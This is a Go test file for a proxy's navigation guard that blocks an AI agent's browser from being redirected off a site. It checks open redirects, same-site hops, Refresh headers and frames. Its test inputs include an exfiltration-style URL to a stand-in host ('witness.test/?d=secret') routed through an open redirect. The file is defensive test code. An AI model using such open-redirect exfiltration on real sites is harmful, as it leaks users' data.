package chat

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"io"
	"log"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

// guardPipeline is the part of the proxy's pipeline the agent's navigation guard lives in: its
// request side (GuardNavigation) before a request leaves, its response side (GuardRedirect) on
// the answer, around a reverse proxy to a test site that answers for example.com and its
// subdomains.
type guardPipeline struct {
	h  *Hub
	rp *httputil.ReverseProxy
	t  *testing.T
}

func newGuardPipeline(t *testing.T, site http.Handler) *guardPipeline {
	t.Helper()
	ts := httptest.NewTLSServer(site)
	t.Cleanup(ts.Close)
	roots := x509.NewCertPool()
	roots.AddCert(ts.Certificate())
	var d net.Dialer
	tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots},
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			return d.DialContext(ctx, network, ts.Listener.Addr().String())
		}}
	t.Cleanup(tr.CloseIdleConnections)
	h := newHub(nil, context.Background())
	h.log = slog.New(slog.NewTextHandler(io.Discard, nil))
	rp := &httputil.ReverseProxy{
		Rewrite: func(pr *httputil.ProxyRequest) {
			pr.Out.URL.Scheme, pr.Out.URL.Host, pr.Out.Host = "https", pr.In.Host, pr.In.Host
		},
		Transport:      tr,
		ModifyResponse: func(resp *http.Response) error { h.GuardRedirect(resp); return nil },
		ErrorLog:       log.New(io.Discard, "", 0),
	}
	return &guardPipeline{h: h, rp: rp, t: t}
}

// get sends a GET for rawURL with the headers hdr (name, value, …) as the browser sends it in
// an intercepted connection, and returns the answer.
func (p *guardPipeline) get(rawURL string, hdr ...string) (*http.Response, []byte) {
	p.t.Helper()
	req := httptest.NewRequest("GET", rawURL, nil)
	req.RequestURI = req.URL.RequestURI()
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	rec := httptest.NewRecorder()
	r, w, done, answered := p.h.GuardNavigation(rec, req)
	if !answered {
		p.rp.ServeHTTP(w, r)
		done()
	}
	resp := rec.Result()
	body, _ := io.ReadAll(resp.Body)
	return resp, body
}

// navHeaders are the headers Chromium sends with a navigation started in a page of from
// (fetchSite as it computes it); referer "" leaves the Referer out.
func navHeaders(fetchSite, referer string) []string {
	h := []string{"Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "navigate", "Sec-Fetch-Site", fetchSite, "Upgrade-Insecure-Requests", "1"}
	if referer != "" {
		h = append(h, "Referer", referer)
	}
	return h
}

// navSite is a site with an open redirect, a same-site redirect into it, a page that refreshes
// off the site, and a page; it records what it answered.
type navSite struct {
	mu   sync.Mutex
	seen []string
}

func (s *navSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	s.seen = append(s.seen, r.Method+" "+r.Host+r.URL.RequestURI())
	s.mu.Unlock()
	switch r.URL.Path {
	case "/out":
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
	case "/hop":
		http.Redirect(w, r, "https://www.example.com/out?to="+url.QueryEscape(r.URL.Query().Get("to")), http.StatusMovedPermanently)
	case "/refresh":
		w.Header().Set("Refresh", "0; url=https://witness.test/r")
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, `<!doctype html><title>R</title>`)
	default:
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, `<!doctype html><title>Shop</title><p>shop</p>`)
	}
}

func (s *navSite) requests() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.seen, "\n")
}

// TestAgentNavigationGuard: through the guard's two sides in a pipeline as the proxy's (its whole
// wiring is tested in proxy/chat_navguard_test.go and e2e), with an expectation armed as the chat arms
// it before an action: the site's open redirect off the site is replaced by the refusal page, and
// so is a same-site redirect into it, a Refresh header off the site and a first hop off the site
// (answered without going upstream); a redirect within the site goes through. The person's own
// navigation (Sec-Fetch-Site: none) and any navigation once the window is over are left alone.
func TestAgentNavigationGuard(t *testing.T) {
	site := &navSite{}
	cf := newGuardPipeline(t, site)
	g := &cf.h.nav
	var mu sync.Mutex
	var told []string
	arm := func() *navExpect {
		return g.arm("click", "https://example.com/", "https://example.com", nil, func(why string) {
			mu.Lock()
			told = append(told, why)
			mu.Unlock()
		})
	}
	pageURL := "https://example.com/"
	exfil := url.QueryEscape("https://witness.test/?d=secret")

	x := arm()
	resp, body := cf.get("https://example.com/out?to="+exfil, navHeaders("same-origin", pageURL)...)
	if resp.StatusCode != http.StatusForbidden || resp.Header.Get("Location") != "" || !strings.Contains(string(body), "remixproxy stopped the agent&#39;s navigation") ||
		!strings.Contains(string(body), "would have left example.com") || strings.Contains(string(body), "secret") {
		t.Errorf("open redirect: %d %q\n%s", resp.StatusCode, resp.Header.Get("Location"), body)
	}
	if why := x.refusal(); !strings.Contains(why, "a redirect (302) to https://witness.test/?…") {
		t.Errorf("refusal = %q", why)
	}
	x.settle()

	// A redirect within the site is followed; the hop it leads to is the agent's too.
	x = arm()
	resp, _ = cf.get("https://example.com/hop?to="+exfil, navHeaders("same-origin", pageURL)...)
	if resp.StatusCode != http.StatusMovedPermanently || !strings.HasPrefix(resp.Header.Get("Location"), "https://www.example.com/out?") {
		t.Fatalf("same-site redirect: %d %q", resp.StatusCode, resp.Header.Get("Location"))
	}
	x.settle()
	resp, _ = cf.get(resp.Header.Get("Location"), navHeaders("same-site", pageURL)...)
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("the hop's own redirect off the site: %d %q", resp.StatusCode, resp.Header.Get("Location"))
	}
	if x.refusal() == "" {
		t.Error("the hop's refusal was not recorded")
	}

	// A Refresh header off the site, and a first hop off the site.
	x = arm()
	if resp, _ := cf.get("https://example.com/refresh", navHeaders("same-origin", pageURL)...); resp.StatusCode != http.StatusForbidden || resp.Header.Get("Refresh") != "" {
		t.Errorf("Refresh off the site: %d %q", resp.StatusCode, resp.Header.Get("Refresh"))
	}
	if resp, body := cf.get("https://witness.test/?d=secret", navHeaders("cross-site", pageURL)...); resp.StatusCode != http.StatusForbidden ||
		!strings.Contains(string(body), "would have left the site example.com for https://witness.test/?…") {
		t.Errorf("first hop off the site: %d\n%s", resp.StatusCode, body)
	}
	x.settle()

	// A frame of the page: loading another site is its own (a widget); a redirect off the site
	// of a frame's address on the site is held like the tab's.
	x = arm()
	frameHdr := []string{"Sec-Fetch-Dest", "iframe", "Sec-Fetch-Mode", "navigate", "Sec-Fetch-Site", "same-origin", "Referer", pageURL}
	if resp, _ := cf.get("https://example.com/out?to="+exfil, frameHdr...); resp.StatusCode != http.StatusForbidden {
		t.Errorf("a frame's redirect off the site: %d, want 403", resp.StatusCode)
	}
	frameHdr[5] = "cross-site"
	if resp, body := cf.get("https://witness.test/widget", frameHdr...); resp.StatusCode == http.StatusForbidden {
		t.Errorf("a frame loading another site was refused: %d\n%s", resp.StatusCode, body)
	}
	x.settle()

	// Not the agent's: the address bar, and another site's page.
	if resp, _ := cf.get("https://example.com/out?to="+exfil, navHeaders("none", "")...); resp.StatusCode != http.StatusFound {
		t.Errorf("the person's own navigation through the open redirect: %d, want 302", resp.StatusCode)
	}
	if resp, _ := cf.get("https://example.com/out?to="+exfil, navHeaders("cross-site", "https://news.test/")...); resp.StatusCode != http.StatusFound {
		t.Errorf("another site's navigation: %d, want 302", resp.StatusCode)
	}
	// A subresource is never a navigation.
	if resp, _ := cf.get("https://example.com/out?to="+exfil, "Sec-Fetch-Dest", "image", "Sec-Fetch-Mode", "no-cors", "Sec-Fetch-Site", "same-origin", "Referer", pageURL); resp.StatusCode != http.StatusFound {
		t.Errorf("an image through the open redirect: %d, want 302 (not the guard's)", resp.StatusCode)
	}

	// After the window, the page's own navigations are its own.
	g.mu.Lock()
	for _, e := range g.xs {
		e.until = time.Now().Add(-time.Second)
		e.pending = 0
	}
	g.mu.Unlock()
	if resp, _ := cf.get("https://example.com/out?to="+exfil, navHeaders("same-origin", pageURL)...); resp.StatusCode != http.StatusFound {
		t.Errorf("after the window: %d, want 302", resp.StatusCode)
	}
	if n := g.live.Load(); n != 0 {
		t.Errorf("%d expectations live after their windows", n)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(told) < 3 {
		t.Errorf("the chat was told of %d refusals, want at least 3: %q", len(told), told)
	}
}
